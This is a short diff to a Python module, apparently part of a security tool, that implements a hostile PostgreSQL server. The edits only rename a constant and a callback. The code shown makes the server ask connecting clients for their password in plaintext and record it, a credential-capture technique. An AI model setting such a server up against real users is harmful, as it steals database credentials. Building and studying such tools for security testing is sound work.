@@ -8,7 +8,7 @@ statement.
 import struct
 from collections.abc import Sequence
 
-from backwatch.attack.protocols.server import MOST_KEPT, HostileServer, ServerSession
+from backwatch.attack.protocols.server import MAX_KEPT, HostileServer, ServerSession
 
 _SSL_REQUEST, _GSS_REQUEST, _CANCEL = 80877103, 80877104, 80877102
 _PASSWORD_IN_CLEAR = 3
@@ -52,7 +52,7 @@ class PostgreSQL(HostileServer):
     def take_password(self, session: ServerSession) -> None:
         """Request the password in plaintext, and record it."""
         send(session, b"R", struct.pack("!I", _PASSWORD_IN_CLEAR))
-        self.taken(receive(session).rstrip(b"\0"))
+        self.on_leak(receive(session).rstrip(b"\0"))
 
     def parameters(self) -> dict[str, str]:
         """Return the parameters that the server reports after login."""
@@ -167,7 +167,7 @@ class _Conversation:
     def _extended(self, kind: bytes, body: bytes) -> None:
         if kind == b"P":
             name, statement, _ = body.split(b"\0", 2)
-            if len(self._prepared) >= MOST_KEPT:
+            if len(self._prepared) >= MAX_KEPT:
                 self._prepared.clear()
             self._prepared[name] = statement
             send(self._session, b"1")
